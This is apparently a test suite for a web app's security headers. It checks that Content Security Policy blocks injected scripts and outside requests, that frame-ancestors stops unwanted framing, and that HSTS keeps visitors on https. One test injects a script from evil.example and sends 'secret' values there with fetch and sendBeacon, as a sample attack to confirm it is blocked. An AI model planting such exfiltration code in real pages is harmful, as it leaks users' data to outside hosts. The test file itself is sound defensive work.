import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Tab } from "@playbook/world";
import { goTo, openStand, releaseOf, type Stand, visit } from "./stand.ts";

let stand: Stand;
let parent: Server;

/** Other people's pages, which show in a frame what their address asks for. */
beforeAll(async () => {
  stand = await openStand();
  parent = createServer(({ url = "" }, response) => {
    const framed = new URL(url, "https://parent.example").searchParams.get("frame");
    response.setHeader("content-type", "text/html").end(`<iframe src="${framed}"></iframe>`);
  });
  await once(parent.listen(0, "127.0.0.1"), "listening");
  const url = `http://127.0.0.1:${(parent.address() as AddressInfo).port}`;
  const hosts = ["app.safe.example", "other.example", "graph.example", "relay.example"];
  for (const host of hosts) stand.browser.lead(host, url);
}, 300_000);
afterAll(async () => {
  await stand?.[Symbol.asyncDispose]();
  parent.close();
});

async function released(parameters: Record<string, string> = {}) {
  const site = await stand.site(parameters);
  await site.step(releaseOf("v1", stand.releases.v1));
  return site;
}

/** Waits until a developer would see all of that in red. */
async function red(tab: Tab, ...parts: string[]): Promise<void> {
  const isRed = (part: string) => tab.complaints().some((one) => one.includes(part));
  while (!parts.every(isRed)) await sleep(20);
}

test("a page that keeps to itself violates nothing", async () => {
  const site = await released();
  await using tab = await visit(stand.browser, site.address);

  for (const title of ["Transfers", "Send", "Overview"] as const) await goTo(tab, title);

  expect(tab.complaints()).toEqual([]);
  const paths = (await tab.requests()).map(({ url }) => new URL(url).pathname).join("\n");
  for (const part of [/^\/config\./m, /index-.*js$/m, /index-.*css$/m, /Send-.*js$/m]) {
    expect(paths).toMatch(part);
  }
});

test("what somebody smuggles into a page neither runs nor tells anybody", async () => {
  const site = await released();
  await using tab = await visit(stand.browser, site.address);

  await tab.page.evaluate(`(async () => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'taken'";
    document.body.append(script);
    const other = document.createElement("script");
    other.src = "https://evil.example/evil.js";
    document.body.append(other);
    await fetch("https://evil.example/?secret=1", { mode: "no-cors" }).catch(() => {});
    navigator.sendBeacon("https://evil.example/?secret=2");
  })()`);

  await red(
    tab,
    "violation of script-src-elem: inline",
    "violation of script-src-elem: https://evil.example/evil.js",
    "violation of connect-src: https://evil.example/",
  );
  expect(await tab.page.title()).toBe("Nexus");
  expect(stand.browser.reached()).not.toContain("evil.example:443");
});

test("pages connect to what their own release names, and to nothing else", async () => {
  const site = await stand.site();
  const { v1 } = stand.releases;
  const graph = { ...v1.config, subgraph: "https://graph.example/subgraphs/name/nexus" };
  const relay = { "connect-sources": "https://relay.example" };
  await site.step(releaseOf("v1", { ...v1, config: graph }, relay));
  /** The hosts that code of the live page may ask. */
  const asked = async () => {
    await using tab = await visit(stand.browser, site.address);
    const hosts = ["graph.example", "relay.example", "evil.example"];
    return await tab.page.evaluate(async (all) => {
      const ask = (host: string) =>
        fetch(`https://${host}/`, { mode: "no-cors" }).then(
          () => [host],
          () => [],
        );
      return (await Promise.all(all.map(ask))).flat();
    }, hosts);
  };

  expect(await asked()).toEqual(["graph.example", "relay.example"]);
  await site.step(releaseOf("v2", v1));
  expect(await asked()).toEqual([]);
  await site.step({ mode: "rollback" });
  expect(await asked()).toEqual(["graph.example", "relay.example"]);
  expect(stand.browser.reached()).not.toContain("evil.example:443");
});

test.each([
  { ancestors: "'none'", host: "app.safe.example", shown: false },
  { ancestors: "https://app.safe.example", host: "app.safe.example", shown: true },
  { ancestors: "https://app.safe.example", host: "other.example", shown: false },
])("framed by $host with $ancestors, it is shown: $shown", async ({ ancestors, host, shown }) => {
  const site = await released({ FrameAncestors: ancestors });
  await using tab = await stand.browser.open();

  await tab.page.goto(`https://${host}/?frame=${site.address}/`);

  const [, frame] = tab.page.frames();
  if (shown) await frame?.locator("[data-version]").waitFor();
  else await red(tab, "frame-ancestors");
  expect(frame?.url().startsWith(site.address)).toBe(shown);
  if (shown) expect(tab.complaints()).toEqual([]);
});

test("whoever was there once never asks by http again", async () => {
  const site = await released();
  const bare = site.address.replace("https:", "http:");
  await using stranger = await stand.browser.open();
  await stranger.page.goto(bare).catch(() => {});
  expect(stranger.page.url()).not.toContain(site.address);

  await using tab = await visit(stand.browser, site.address);
  await tab.page.goto(bare);

  expect(tab.page.url()).toBe(`${site.address}/`);
});
